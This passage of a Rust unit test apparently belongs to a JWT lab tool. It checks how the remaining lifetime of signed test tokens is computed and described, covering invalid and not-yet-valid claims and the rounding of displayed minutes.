            let c = v.as_object().unwrap();
            token::parse(&crate::core::engine::sign::sign(&token::JsonObject::new(), c, "HS256", &key).unwrap())
                .unwrap()
        };
        let at = 1_700_000_000.0;
        assert_eq!(
            jwt_remaining(Some(&jwt(serde_json::json!({"exp": "soon"}))), at),
            (
                0.0,
                "the current token is refused: \"exp\" must be a NumericDate (a JSON number of seconds since 1970), \
                 but the token has a string: tokenbench verify calls it invalid"
                    .to_owned()
            )
        );
        assert_eq!(
            jwt_remaining(Some(&jwt(serde_json::json!({"nbf": at + 60.0, "exp": at + 3600.0}))), at),
            (
                0.0,
                "the current token is refused at the lab clock: not valid until 2023-11-14 22:14:20 UTC (its nbf or \
                 iat is in the future)"
                    .to_owned()
            )
        );
        assert_eq!(
            jwt_remaining(Some(&jwt(serde_json::json!({"exp": at + 60.0}))), at),
            (60.0, "the current token's exp".to_owned())
        );
        // A fraction of a second makes no difference: the header's figure is the bars'.
        let t = jwt(serde_json::json!({"exp": at + 420.0}));
        let (left, _) = jwt_remaining(Some(&t), at + 0.7);
        let l = SessionLifetimes { jwt_remaining: left, ..SessionLifetimes::default() };
        assert_eq!((lifetime_text(left), lifetime_text(l.stolen_jwt_useful_for())), ("7 min".into(), "7 min".into()));
    }
}
